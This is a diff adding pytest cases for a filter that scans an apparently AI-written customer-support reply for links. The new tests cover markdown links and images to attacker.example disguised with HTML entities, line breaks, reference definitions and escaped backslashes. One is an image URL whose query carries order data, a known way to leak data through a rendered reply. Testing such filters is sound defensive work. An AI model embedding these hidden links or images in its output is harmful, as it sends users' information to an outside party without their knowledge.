@@ -406,6 +406,33 @@ def test_a_link_to_a_site_the_passages_or_the_brand_name_passes(policy, link):
     assert _links(reply, policy) == []
 
 
+@pytest.mark.parametrize(
+    "hidden",
+    [
+        "[claim it](https&#58;//attacker.example/claim)",  # entities a renderer decodes
+        "[claim it](https&colon;//attacker.example/claim)",
+        "[claim it](https:&#47;&#47;attacker.example/claim)",
+        "[claim it](\n//attacker.example/claim)",  # the address on the next line
+        "[claim it][go]\n\n[go]: https://attacker.example/claim",  # by reference
+        "\\\\![x](https://attacker.example/p.png?q=order)",  # an escaped backslash, then a picture
+        "![x](https&#58;//attacker.example/p.png)",
+    ],
+)
+def test_a_link_or_picture_hidden_from_a_plain_reading_is_caught(policy, hidden):
+    reply = f"Refunds reach a credit card in 3–5 business days [3]. {hidden}"
+    found = _links(reply, policy)
+    assert found, hidden
+    if blocked(found):
+        return  # the whole answer is replaced by the quoted passages
+    text, _ = redact(reply, CITATIONS, found)
+    assert "attacker" not in text
+
+
+def test_a_plain_link_to_a_named_site_in_markdown_passes_the_rendered_reading_too(policy):
+    reply = "Track it on [the tracking page](https://orders.brightwell.example/track) [4]."
+    assert _links(reply, policy) == []
+
+
 def test_text_without_links_is_not_scanned_for_hosts(policy):
     assert _links("Use the code WELCOME10 at checkout [2]. Prices end in .99 [2].", policy) == []
 
